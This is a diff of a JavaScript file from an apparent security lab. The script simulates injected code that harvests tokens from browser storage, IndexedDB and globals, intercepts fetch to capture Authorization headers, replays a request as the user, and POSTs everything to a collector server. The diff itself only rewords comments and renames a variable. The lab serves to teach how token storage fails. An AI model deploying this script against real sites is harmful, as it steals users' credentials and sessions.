@@ -1,7 +1,6 @@
-// What the lab injects: the same for every way of keeping tokens,
-// and written for none of them. It stands for script that came in
-// through a bug in the page, or inside a package. The server is the
-// demo's own, on this machine.
+// The script that the lab injects, the same for every token storage.
+// It represents a script that came in through a bug in the page or
+// inside a package. The server is the demo's own, on this machine.
 
 const server = new URL(import.meta.url).searchParams.get("to");
 const { fetch: plainFetch } = window;
@@ -13,7 +12,7 @@ function take(place, text) {
   sent.push(plainFetch(server, { method: "POST", body }));
 }
 
-// 1. Take what lies around.
+// 1. Read every storage.
 
 for (const [place, storage] of Object.entries({ localStorage, sessionStorage })) {
   for (const [key, value] of Object.entries(storage)) take(`${place} “${key}”`, value);
@@ -40,7 +39,7 @@ async function takeDatabases() {
   }
 }
 
-/** Every text that leads off from a value, as far as script can follow. */
+/** Every text that a script can reach from a value. */
 function textsIn(root) {
   const texts = [];
   const seen = new Set();
@@ -55,12 +54,12 @@ function textsIn(root) {
   return texts;
 }
 
-// Long texts alone: what hangs on `window` is mostly names.
+// Only long texts: most texts on `window` are names.
 for (const text of textsIn(window)) {
   if (text.length > 200) take("A global variable", text);
 }
 
-// 2. Wait for the app to use what lies nowhere.
+// 2. Wait for the app to send a token that is in no storage.
 
 let haveAsked = false;
 
@@ -69,13 +68,13 @@ window.fetch = async (input, init) => {
   const header = request.headers.get("authorization");
   if (header) take(`The app’s request to ${new URL(request.url).host}`, header);
 
-  // 3. And ask for the same thing once more, in the user's name and from the user's browser.
+  // 3. Repeat the request once, as the user and from the user's browser.
   if (request.method === "GET" && !haveAsked) {
     haveAsked = true;
-    const answer = await plainFetch(request.clone());
+    const response = await plainFetch(request.clone());
     take(
-      `An answer of ${new URL(request.url).host} to the script’s own request: ${answer.status}`,
-      await answer.text(),
+      `A response of ${new URL(request.url).host} to the script’s own request: ${response.status}`,
+      await response.text(),
     );
   }
   return plainFetch(request);
